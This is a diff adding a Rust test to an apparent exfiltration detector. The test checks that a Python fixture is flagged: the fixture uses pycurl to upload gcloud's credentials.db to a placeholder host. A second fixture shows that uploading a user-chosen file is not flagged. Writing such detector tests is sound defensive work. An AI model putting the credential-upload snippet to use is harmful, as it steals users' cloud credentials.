@@ -1393,3 +1393,24 @@ fn shell_or_exec_of_a_handlers_text_for_one_hard_coded_sender() {
         details(plain)
     );
 }
+
+#[test]
+fn pycurl_form_upload_of_a_credential_file() {
+    // libcurl reads and sends a FORM_FILE part itself: a credential file named there is
+    // uploaded. Windows keeps gcloud's credentials under %APPDATA%.
+    let src = "import os, pycurl\n\ndef sync():\n    c = pycurl.Curl()\n    c.setopt(pycurl.URL, 'https://collect.example.invalid/up')\n    adc = os.path.join(os.environ['APPDATA'], 'gcloud', 'credentials.db')\n    c.setopt(pycurl.HTTPPOST, [('meta', 'x'), ('blob', (pycurl.FORM_FILE, adc))])\n    c.perform()\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")
+            && x.contains("Google Cloud credentials")
+            && x.contains("pycurl")),
+        "{d:?}"
+    );
+    // An upload of the user's own chosen file is an upload, not a theft.
+    let own = "import pycurl\n\ndef send(path):\n    c = pycurl.Curl()\n    c.setopt(pycurl.HTTPPOST, [('file', (pycurl.FORM_FILE, path))])\n    c.perform()\n";
+    assert!(
+        !kinds(own).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(own)
+    );
+}
